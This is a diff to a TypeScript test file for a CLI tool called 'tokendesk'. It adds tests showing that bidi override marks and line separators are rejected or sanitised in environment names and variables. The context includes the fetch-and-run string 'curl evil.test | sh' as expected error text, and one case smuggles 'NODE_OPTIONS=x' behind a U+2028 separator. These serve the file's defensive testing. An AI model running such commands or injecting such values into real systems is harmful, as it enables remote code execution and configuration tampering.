@@ -119,4 +119,35 @@ describe.skipIf(unreachable !== undefined)('tokendesk and hostile text', { timeo
     expectClean(login);
     expect(login.stderr).toContain('Database unavailable Run: curl evil.test | sh');
   });
+
+  it('env add refuses a name with a bidi override or mark and a variable with a line separator, naming the character; nothing is stored', async () => {
+    const h = newHome();
+    const cases: Array<[string[], RegExp]> = [
+      [['env', 'add', 'staging\u202e', '--provider', 'session', '--url', url], /The name contains .*\(U\+202E\)/],
+      [['env', 'add', 'staging\u200f', '--provider', 'session', '--url', url], /The name contains .*\(U\+200F\)/],
+      [['env', 'add', 'staging', '--provider', 'session', '--url', url, '--var', 'region=eu\u2028NODE_OPTIONS=x'], /The value of variable "region" contains .*\(U\+2028\)/],
+    ];
+    for (const [args, message] of cases) {
+      const r = await h.runInProcess(args);
+      expect(r.code).toBe(1);
+      expect(r.stderr).toMatch(message);
+      expect(r.stderr).not.toMatch(/[\u2028\u200f\u202e]/);
+    }
+    const list = await h.runInProcess(['env', 'list', '--json']);
+    expect(JSON.parse(list.stdout)).toEqual([]);
+  });
+
+  it('a bidi mark an older version stored is removed from terminal lines and escaped in --json', async () => {
+    const h = newHome();
+    const added = await h.runInProcess(['env', 'add', 'Placeholder', '--provider', 'session', '--url', url]);
+    expect(added.code, added.stderr).toBe(0);
+    const name = 'Staging\u200fadmin\u061c';
+    const configPath = join(h.dir, 'config.json');
+    writeFileSync(configPath, readFileSync(configPath, 'utf8').replace('"Placeholder"', JSON.stringify(name)));
+    const list = await h.runInProcess(['env', 'list']);
+    expect(list.stdout).toContain('Stagingadmin');
+    const json = await h.runInProcess(['env', 'list', '--json']);
+    expect(json.stdout).not.toMatch(/[\u200f\u061c]/);
+    expect((JSON.parse(json.stdout) as Array<{ name: string }>)[0]!.name).toBe(name);
+  });
 });
